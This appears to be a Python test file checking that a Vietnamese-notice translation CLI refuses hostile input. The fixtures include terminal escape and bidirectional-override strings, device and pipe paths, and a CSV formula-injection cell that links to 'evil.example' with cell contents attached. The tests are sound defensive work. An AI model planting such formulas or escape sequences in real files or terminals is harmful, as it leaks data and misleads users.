"""Hostile or broken input, as an attacker or a hurried editor would give it: one `Error:` line, a non-zero
exit, and nothing changed."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from sqlmodel import col, select

from tests.helpers import write_notice
from tests.test_review import snapshot
from trilingo.cli import cli
from trilingo.mt.offline import OfflineEngine
from trilingo.pretranslate.jobs import draft_waiting
from trilingo.store.models import AuditEvent, Translation
from trilingo.store.sessions import TrilingoSession
from trilingo.workspace import open_database

ROOT = Path(__file__).parent.parent


def run(*args: str) -> Result:
    return CliRunner().invoke(cli, list(args))


def error(result: Result) -> str:
    """The one error line, checking that nothing else was printed and nothing escaped as a traceback."""
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    assert result.exit_code != 0 and result.stdout == ""
    [line] = result.stderr.splitlines()
    assert line.startswith("Error: ")
    return line


@pytest.fixture
def drafted(home: Path, db_url: str) -> str:
    notice = write_notice(home.parent, "tb", "Hàng hoá phải khai báo với Hải quan.", title="Hải quan")
    assert run("submit", str(notice)).exit_code == 0
    draft_waiting(open_database(db_url, "tester"), {"lo": OfflineEngine(), "zh": OfflineEngine()}, "tester")
    return "tb"


# --- 11. bytes that are not UTF-8 in arguments ---------------------------------------------------


@pytest.mark.parametrize(
    "args",
    [
        ["review", "edit", "tb", "--lang", "zh", "--segment", "2", "--text", "abc\udced\udca0\udc80def"],
        ["review", "edit", "tb", "--lang", "zh", "--segment", "2", "--text", "\udcff"],
        ["review", "edit", "tb", "--lang", "zh", "--segment", "2", "--text", "ok", "--as", "\ud800"],
        ["review", "show", "tb\udcff", "--lang", "zh"],
    ],
)
@pytest.mark.usefixtures("drafted")
def test_arguments_that_are_not_utf8_are_one_error_line(args: list[str], db_url: str) -> None:
    before = snapshot(db_url)
    line = error(run(*args))
    assert line.startswith("Error: not valid UTF-8 text on the command line: ")
    assert snapshot(db_url) == before


@pytest.mark.usefixtures("drafted")
def test_real_bytes_on_a_real_command_line() -> None:
    # What a shell passes for $'abc\xed\xa0\x80def': bytes, decoded by Python itself.
    done = subprocess.run(
        [sys.executable, "-m", "trilingo", "review", "edit", "tb", "--lang", "zh", "--segment", "2", "--text",
         b"abc\xed\xa0\x80def"],
        capture_output=True,
        cwd=ROOT,
        env=dict(os.environ),
    )  # fmt: skip
    assert done.returncode == 1
    assert done.stderr == (
        b"Error: not valid UTF-8 text on the command line: abc\\xed\\xa0\\x80def (argument 9)\n"
    )


# --- 12. control characters wherever a person's text is stored, and safe printing ----------------


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (
            ["review", "edit", "tb", "--lang", "zh", "--segment", "2", "--text", "货物\x1b[2J须申报"],
            "Error: the new text: column 3: control character U+001B is not allowed",
        ),
        (
            ["review", "edit", "tb", "--lang", "zh", "--segment", "2", "--text", "响铃\x07"],
            "Error: the new text: column 3: control character U+0007 is not allowed",
        ),
        (
            ["review", "reject", "tb", "--lang", "zh", "--reason", "sai\x1b]0;pwned\x07"],
            "Error: the reason: column 4: control character U+001B is not allowed",
        ),
        (
            ["review", "edit", "tb", "--lang", "zh", "--segment", "2", "--text", "x", "--as", "\x1b[31mroot"],
            "Error: invalid user name '\\x1b[31mroot': use 1–64 printable characters",
        ),
        (
            ["review", "edit", "tb", "--lang", "zh", "--segment", "2", "--text", "x", "--as", "   "],
            "Error: invalid user name '   ': use 1–64 printable characters",
        ),
        (
            ["review", "edit", "tb", "--lang", "zh", "--segment", "2", "--text", "x", "--as", "a" * 65],
            f"Error: invalid user name '{'a' * 65}': use 1–64 printable characters",
        ),
        (
            ["review", "edit", "tb", "--lang", "zh", "--segment", "2", "--text", "abc\u202edef"],
            "Error: the new text: column 4: bidirectional control character U+202E is not allowed",
        ),
    ],
)
@pytest.mark.usefixtures("drafted")
def test_control_characters_are_refused_where_people_write(
    args: list[str], message: str, db_url: str
) -> None:
    before = snapshot(db_url)
    assert error(run(*args)) == message
    assert snapshot(db_url) == before


@pytest.mark.usefixtures("drafted")
def test_a_bad_trilingo_user_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TRILINGO_USER", "ad\x08min")
    assert (
        error(run("review", "queue"))
        == "Error: invalid user name 'ad\\x08min': use 1–64 printable characters"
    )


def test_an_old_row_with_escapes_prints_safely(drafted: str, db_url: str) -> None:
    # Written before the rule existed (or by another tool): it must not reach the terminal raw.
    with TrilingoSession(open_database(db_url, "tester")) as s:
        tr = s.exec(select(Translation).where(Translation.lang == "zh").order_by(col(Translation.id))).all()[
            1
        ]
        tr.target = "\x1b[2J\x1b[H清屏\x07\u202e反"
        s.add(tr)
        s.commit()
    out = run("review", "show", drafted, "--lang", "zh").stdout
    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
    assert "\\x1b[2J\\x1b[H清屏\\x07\\u202e反" in out
    data = json.loads(run("review", "show", drafted, "--lang", "zh", "--json").stdout)
    assert data["segments"][1]["target"] == "\x1b[2J\x1b[H清屏\x07\u202e反"  # JSON carries it escaped, intact


# --- 13. bidi overrides in a notice -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("title", "body", "message"),
    [
        (
            "Giờ mở cửa",
            "Mở cửa lúc 7 giờ.\n\nĐóng cửa lúc \u202e16 giờ.",
            "line 7, column 14: bidirectional control character U+202E",
        ),
        (
            "Giờ \u2067mở cửa",
            "Mở cửa lúc 7 giờ.",
            "line 2, column 12: bidirectional control character U+2067",
        ),
    ],
)
@pytest.mark.usefixtures("home")
def test_bidi_controls_in_a_notice_are_refused_with_line_and_column(
    title: str, body: str, message: str, tmp_path: Path, db_url: str
) -> None:
    path = write_notice(tmp_path, "tb", body, title=title)
    before = snapshot(db_url)
    assert error(run("submit", str(path))) == f"Error: {path}: {message} is not allowed"
    assert snapshot(db_url) == before


# --- 14. files that are not regular files ---------------------------------------------------------


@pytest.mark.usefixtures("home")
def test_a_fifo_is_refused_at_once(tmp_path: Path) -> None:
    fifo = tmp_path / "notice.md"
    os.mkfifo(fifo)
    start = time.monotonic()
    line = error(run("submit", str(fifo)))
    assert line == f"Error: {fifo}: not a regular file (a pipe, socket or device); give a file"
    assert time.monotonic() - start < 5  # it used to wait for a writer forever


@pytest.mark.usefixtures("home")
def test_devices_and_links_to_them_are_refused(tmp_path: Path) -> None:
    link = tmp_path / "zero.md"
    link.symlink_to("/dev/zero")
    for path in (Path("/dev/zero"), link):
        assert error(run("submit", str(path))).endswith(
            "not a regular file (a pipe, socket or device); give a file"
        )
    for command in (["glossary", "import"], ["tm", "import"]):
        target = tmp_path / ("fifo.csv" if command[0] == "glossary" else "fifo.tmx")
        os.mkfifo(target)
        assert "not a regular file" in error(run(*command, str(target)))


@pytest.mark.usefixtures("home")
def test_a_link_the_editor_names_to_a_regular_file_is_read(tmp_path: Path) -> None:
    real = write_notice(tmp_path, "real", "Câu một.")
    (tmp_path / "link.md").symlink_to(real)
    assert run("submit", str(tmp_path / "link.md")).exit_code == 0


# --- 15. sizes ----------------------------------------------------------------------------------------


@pytest.mark.usefixtures("home")
def test_a_notice_of_130000_lines_is_refused_quickly(tmp_path: Path, db_url: str) -> None:
    path = tmp_path / "long.md"
    path.write_text("---\ntitle: Danh sách\n---\n" + "- a\n" * 130_000, encoding="utf-8")
    before = snapshot(db_url)
    start = time.monotonic()
    line = error(run("submit", str(path)))
    assert line == (
        f"Error: {path}: 130,001 segments; the limit is 2,000 per notice "
        "(limits.segments in config.toml, or TRILINGO_LIMIT_SEGMENTS)"
    )
    assert time.monotonic() - start < 10
    assert snapshot(db_url) == before


@pytest.mark.usefixtures("home")
def test_an_enormous_title_is_refused(tmp_path: Path) -> None:
    path = write_notice(tmp_path, "tb", "Câu.", title="Dài " * 25_000)
    assert error(run("submit", str(path))) == (
        f"Error: {path}: the title is 99,999 characters; the limit is 300 "
        "(limits.title_chars in config.toml, or TRILINGO_LIMIT_TITLE_CHARS)"
    )


@pytest.mark.usefixtures("home")
def test_limits_come_from_the_configuration(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, home: Path
) -> None:
    path = write_notice(tmp_path, "tb", "Câu một.\n\nCâu hai.\n\nCâu ba.")
    monkeypatch.setenv("TRILINGO_LIMIT_SEGMENTS", "3")
    assert error(run("submit", str(path))).endswith(
        "4 segments; the limit is 3 per notice (limits.segments in config.toml, or TRILINGO_LIMIT_SEGMENTS)"
    )
    monkeypatch.delenv("TRILINGO_LIMIT_SEGMENTS")
    home.mkdir(parents=True, exist_ok=True)
    (home / "config.toml").write_text("[limits]\nnotice_bytes = 20\n", encoding="utf-8")
    assert error(run("submit", str(path))).endswith("file too large (75 bytes; the limit is 20)")
    (home / "config.toml").write_text("[limits]\nsegmnts = 3\n", encoding="utf-8")
    result = run("submit", str(path))
    assert (result.exit_code, error(result)) == (
        2,
        "Error: unknown limit 'segmnts' (known: notice_bytes, screens_chars, segment_chars, segments, title_chars)",
    )


# --- 16. CSV formula injection --------------------------------------------------------------------


@pytest.mark.usefixtures("home")
def test_formula_cells_are_kept_as_text_warned_and_neutralised_on_export(tmp_path: Path) -> None:
    csv_in = tmp_path / "g.csv"
    csv_in.write_text(
        "concept,vi,lo,zh,status,domain,confidence,note\n"
        'hotline,=HYPERLINK("http://evil.example/?x="&A1;"gọi"),,热线,preferred,border,low,@SUM(1+1)\n',
        encoding="utf-8",
    )
    result = run("glossary", "import", str(csv_in))
    assert result.exit_code == 0
    warnings = result.stderr.splitlines()
    assert len(warnings) == 2 and all(w.startswith(f"Warning: {csv_in}: line 2: ") for w in warnings)
    assert "vi '=HYPERLINK(\"http://evil.exampl' starts with '='" in warnings[0]
    exported = run("glossary", "export").stdout
    row = next(line for line in exported.splitlines() if line.startswith("hotline,"))
    assert (
        row
        == 'hotline,"\'=HYPERLINK(""http://evil.example/?x=""&A1;""gọi"")",,热线,preferred,border,low,\'@SUM(1+1)'
    )
    # Re-importing our own export gives back the same terms: the apostrophe is ours, and is dropped.
    again = tmp_path / "again.csv"
    again.write_text(exported, encoding="utf-8")
    second = run("glossary", "import", str(again))
    assert second.exit_code == 0 and "nothing changed" in second.stdout and second.stderr == ""


# --- 17. a notice that is not Vietnamese --------------------------------------------------------------

ENGLISH = "The border gate opens at 7:30 every day. Travellers must show their passports at counter 3."
LAO = "ດ່ານສາກົນໄຕຈາງ ເປີດເວລາ 7 ໂມງ 30 ທຸກມື້. ນັກທ່ອງທ່ຽວຕ້ອງສະແດງໜັງສືຜ່ານແດນທີ່ຕູບ 3."
TONELESS = "Cua khau quoc te Tay Trang mo cua tu 7 gio 30 den 16 gio 30 hang ngay, ke ca ngay nghi."


@pytest.mark.parametrize(("body", "language"), [(ENGLISH, "English"), (LAO, "Lao")])
@pytest.mark.usefixtures("home")
def test_a_notice_in_another_language_is_refused(
    body: str, language: str, tmp_path: Path, db_url: str
) -> None:
    path = write_notice(tmp_path, "gate", body, title="Border gate")
    before = snapshot(db_url)
    line = error(run("submit", str(path)))
    assert line.startswith(f"Error: {path}: this notice looks {language} (")
    assert line.endswith(
        "not Vietnamese; nothing was stored. If it really is Vietnamese, submit it with --force-language"
    )
    assert snapshot(db_url) == before


def test_vietnamese_is_told_by_its_letters_and_names_in_english_do_not_fool_it() -> None:
    # Half the words of a Vietnamese notice hold a letter no other candidate language writes: no model
    # is asked. An English notice naming many Vietnamese places stays under the 40 % and goes to it.
    from trilingo.text import language

    vietnamese = "Cửa khẩu quốc tế Tây Trang mở cửa từ 7 giờ 30 đến 16 giờ 30 hằng ngày, kể cả ngày nghỉ."
    names = (
        "The Tây Trang gate in Điện Biên opens at 7:30 on Monday. Travellers to Sốp Hào and Mường Khoa "
        "must bring passports; Huổi Puốc handles goods from Mường Nhé and Nậm Pồ."
    )
    assert language.detect(vietnamese) == language.Detected("Vietnamese", 1.0)
    found = language.detect(names)
    assert found is not None and not found.vietnamese
    assert not language._looks_vietnamese(names)
    # Chinese has no spaces: under a Vietnamese title its sentences would count as a few long "words".
    # Any letter of another script sends the text to the model, which says Chinese.
    chinese = (
        "Thông báo tạm dừng thông quan tại cửa khẩu Ma Lù Thàng\n"
        "因天气原因，马鹿塘口岸暂停通关。恢复时间另行通知。请旅客注意安全，听从工作人员指挥。"
    )
    assert not language._looks_vietnamese(chinese)
    found = language.detect(chinese)
    assert found is not None and not found.vietnamese
    # A long run of letters with none of Vietnam's takes linear time (the old pattern backtracked).
    assert not language._looks_vietnamese("x" * 200_000 + " a" * 20)


@pytest.mark.usefixtures("home")
def test_force_language_stores_it_and_the_override_is_audited(tmp_path: Path, db_url: str) -> None:
    path = write_notice(tmp_path, "gate", ENGLISH, title="Border gate")
    assert run("submit", "--force-language", str(path)).exit_code == 0
    with TrilingoSession(open_database(db_url, "tester")) as s:
        event = s.exec(select(AuditEvent).where(AuditEvent.action == "submit")).one()
    assert event.detail["forced_language"] == "English"


@pytest.mark.usefixtures("home")
def test_vietnamese_without_tone_marks_and_short_notices_pass(tmp_path: Path) -> None:
    assert run("submit", str(write_notice(tmp_path, "toneless", TONELESS))).exit_code == 0
    assert run("submit", str(write_notice(tmp_path, "short", "OK.", title="Wifi"))).exit_code == 0


# --- 3. published files: 0644 and 0755 whatever the umask (tests/test_hardening.py) ------------------
